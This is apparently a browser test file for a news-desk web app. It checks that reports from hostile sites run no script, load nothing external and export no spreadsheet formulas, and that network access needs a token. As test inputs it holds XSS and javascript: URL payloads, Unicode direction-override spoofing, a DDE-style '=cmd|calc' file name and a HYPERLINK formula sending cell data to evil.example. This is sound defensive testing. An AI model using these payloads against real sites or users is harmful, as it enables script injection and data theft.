/** The desk over reports that were written to do harm, and over a network where not everyone may come in. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Page as Tab } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openStore } from '../src/store/open.ts'
import { findBrowser } from './helpers/browser.ts'
import { type DeskInBrowser, deskInBrowser, pagesOf, ready, storyAt } from './helpers/desk-in-browser.ts'
import { hostile } from './helpers/hostile.ts'
import { ask, serve } from './helpers/served.ts'
import { documentEntry, entryOf } from './helpers/store-records.ts'

/** What of the page's own world is named in functions that run there. */
interface Element {
  readonly textContent: string
  getBoundingClientRect(): { readonly left: number; readonly top: number }
}
declare const document: {
  readonly body: { append(element: object): void }
  createElement(name: string): { textContent: string; src: string; setAttribute(name: string, value: string): void }
  querySelectorAll(selector: string): { readonly length: number } & Iterable<Element>
}

const executable = findBrowser()

const TAG = '"><script>planted=1</script><img src=x onerror=planted=2>'
const TURNED = '\u202eturned round\u2066 14 people'
const FORMULA = '=HYPERLINK("https://evil.example/"&A1)'
const LONG = 'w'.repeat(100_000)

it('there is a browser for these tests', ({ skip }) => {
  skip(executable === undefined && !process.env['CI'], 'no Chromium: set CHROMIUM to its path, or run scripts/browser')
  expect(executable).toBeDefined()
})

/** Two readings of one event, the second a copy, as a site that means harm would write them. */
function hostileFiles(folder: string): string {
  const escaped = TAG.replaceAll('<', '&lt;').replaceAll('>', '&gt;')
  const page = (name: string, more: string): string => `<html><head><title>${TURNED} ${escaped}</title>
    <meta name="author" content='${escaped}'><meta property="og:site_name" content='${TURNED} ${name}'>
    <meta property="og:url" content="javascript:planted=3"><link rel="canonical" href="javascript:planted=4"></head>
    <body><article><h1>${TURNED} ${escaped}</h1><p onclick="planted=5">At least 14 people were killed in Quorley when a tram
    left the rails on Monday, officer Dahl said. ${escaped} ${more}</p><p>${FORMULA} said 23 people were hurt. “We heard a bang,
    ${escaped},” said Ida Moor. <a href="javascript:planted=6">More of it</a></p><p>${LONG} was 12 metres long.</p></article></body></html>`
  writeFileSync(
    join(folder, '=cmd|calc!A1.html'),
    page('one', 'It had left Osla at noon with 40 passengers, the line said.'),
  )
  writeFileSync(join(folder, '‮lmth.<img src=x onerror=planted=7>.html'), page('two', ''))
  return folder
}

/** A story with harm in each of its fields, whatever the pipeline would have let through. */
async function hostileStory(data: string): Promise<void> {
  const { articles, ...dossier } = hostile(`${TAG} ${FORMULA}`, `${TURNED} ${TAG}`, `${FORMULA} ${LONG.slice(0, 5000)}`)
  const store = await openStore(data)
  const [story] = dossier.stories
  for (const article of articles) {
    const entry = documentEntry(article.id, { id: `d-${article.id}`, input: article.input })
    await store.documents.add(entry, new TextEncoder().encode(article.id))
    await store.documents.setState(entry.id, 'prepared', [])
    await store.articles.replace(entry.id, [entryOf(article, entry.id, '2031-03-11T00:00:00.000Z')])
  }
  await store.articles.setStory(story!.articles, story!.id)
  await store.stories.put({ story: story!, newest: '2041-03-11T00:00:00.000Z', dossier }, '2041-03-11T00:00:00.000Z')
  await store.close()
}

describe.runIf(executable !== undefined)('reports that mean harm', () => {
  const folder = mkdtempSync(join(tmpdir(), 'stemma-hostile-'))
  let here: DeskInBrowser
  beforeAll(async () => {
    here = await deskInBrowser(executable!, { add: [hostileFiles(folder)], options: ['--no-fetch'] })
    await hostileStory(here.data)
  })
  afterAll(async () => {
    await here.close()
    rmSync(folder, { recursive: true })
  })

  async function stories(): Promise<string[]> {
    const { items } = (await (await ask(`${here.desk.address}api/v1/stories`)).json()) as { items: { id: string }[] }
    return items.map((one) => one.id)
  }

  function watched(tab: Tab): string[] {
    const seen: string[] = []
    tab.on('dialog', (dialog) => void dialog.dismiss().then(() => seen.push('a dialog')))
    tab.on('console', (message) => void (message.type() === 'error' && seen.push(message.text())))
    tab.on('pageerror', (error) => void seen.push(error.message))
    return seen
  }

  it.each([375, 1280])(
    'run nothing, load nothing and leave every page in its frame, %d wide',
    async (width) => {
      const ids = await stories()
      expect(ids.length).toBeGreaterThan(1)
      for (const id of ids) {
        for (const [name, path] of Object.entries(await pagesOf(here.desk.address, id))) {
          const tab = await here.open('/no/such/page', { viewport: { width, height: 800 } })
          const seen = watched(tab)
          const asked: string[] = []
          tab.on('request', (request) => void asked.push(request.url()))
          await tab.goto(here.desk.address + path.slice(1))
          await ready(tab)
          for (const details of await tab.locator('details > summary').all())
            if (await details.isVisible()) await details.click()
          expect([name, seen, await tab.evaluate('globalThis.planted')]).toEqual([name, [], undefined])
          expect([name, asked.filter((url) => !url.startsWith(here.desk.address) && !url.startsWith('data:'))]).toEqual(
            [name, []],
          )
          expect([name, await tab.evaluate('document.documentElement.scrollWidth')]).toEqual([name, width])
          const links = await tab.locator('a').evaluateAll((all) => all.map((one) => one.getAttribute('href') ?? ''))
          expect([name, links.filter((one) => !/^(?:[/#]|https?:)/.test(one))]).toEqual([name, []])
          await tab.context().close()
        }
      }
    },
    120_000,
  )

  it('are shown with their signs, and turn nothing round but their own words', async () => {
    const { id } = await storyAt(here.desk.address)
    expect((await stories()).includes(id)).toBe(true)
    const tab = await here.open('/add')
    await tab.locator('.of-document').first().waitFor()
    expect(await tab.locator('.of-document', { hasText: '<script>planted=1</script>' }).count()).toBeGreaterThan(0)
    const order = await tab.locator('.of-document').evaluateAll((all) =>
      all.flatMap((one) => {
        const [title, story] = [...one.querySelectorAll('a')].map((link) => link.getBoundingClientRect())
        return title && story ? [story.top > title.top + 4 || story.left >= title.right - 1] : []
      }),
    )
    const when = await tab
      .locator('.documents .when')
      .evaluateAll((all) =>
        all.map(
          (one) =>
            one.getBoundingClientRect().right >= (one.previousElementSibling?.getBoundingClientRect().right ?? 0),
        ),
      )
    expect(when).toEqual(Array.from({ length: 6 }, () => true))
    expect(order.length).toBeGreaterThan(0)
    expect(order).not.toContain(false)
  })

  it('meet a policy that lets nothing but the pages’ own files run', async () => {
    const tab = await here.open('/')
    await ready(tab)
    const refused: string[] = []
    tab.on('console', (message) => void refused.push(message.text()))
    await tab.evaluate(() => {
      const inline = document.createElement('script')
      inline.textContent = 'planted = 8'
      document.body.append(inline)
      const image = document.createElement('img')
      image.src = 'https://evil.example/pixel.png'
      document.body.append(image)
    })
    await expect.poll(() => refused.filter((text) => /Content Security Policy/.test(text)).length).toBeGreaterThan(1)
    expect(await tab.evaluate('globalThis.planted')).toBeUndefined()
  })

  it('become no formula in the table that is saved', async () => {
    const csv = await (await ask(`${here.desk.address}api/v1/figures/export?preset=ucdp-style`)).text()
    expect(csv).toContain('HYPERLINK')
    const cells = csv.split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/)
    expect(cells.filter((cell) => /^"?\s*[=+@]/.test(cell))).toEqual([])
  })
})

describe.runIf(executable !== undefined)('a desk that others can reach', () => {
  const TOKEN = 'a token that nobody guesses'
  let here: DeskInBrowser
  beforeAll(async () => {
    here = await deskInBrowser(executable!, { add: ['samples/weir/courier.txt'], options: ['--no-fetch'] })
    here.desk.child.kill('SIGTERM')
    await here.desk.ended
    here.desk = await serve(here.data, ['--no-fetch', '--host', '0.0.0.0'], { STEMMA_TOKEN: TOKEN })
  })
  afterAll(() => here.close())

  it('asks for its token, tells a wrong one, and lets in with the right one until the browser forgets it', async () => {
    const address = here.desk.address.replace('0.0.0.0', '127.0.0.1')
    expect((await ask(`${address}api/v1/stories`)).status).toBe(401)
    const tab = await (await here.browser.newContext()).newPage()
    await tab.goto(`${address}figures`)
    const field = tab.getByLabel('The desk’s token')
    await field.waitFor()
    expect(await tab.locator('table').count()).toBe(0)
    await field.fill('a token that somebody guessed')
    await tab.keyboard.press('Enter')
    await tab.getByRole('alert').waitFor()
    await field.fill(TOKEN)
    await tab.keyboard.press('Enter')
    await tab.getByRole('heading', { name: 'Figures' }).waitFor()
    await tab.locator('table').waitFor()
    await tab.reload()
    await tab.locator('table').waitFor()
    const [cookie] = await tab.context().cookies()
    expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict' })
    expect(cookie!.value).not.toContain('guesses')
    expect(await tab.evaluate('document.cookie')).toBe('')
    await tab.context().clearCookies()
    await tab.reload()
    await field.waitFor()
  })
})
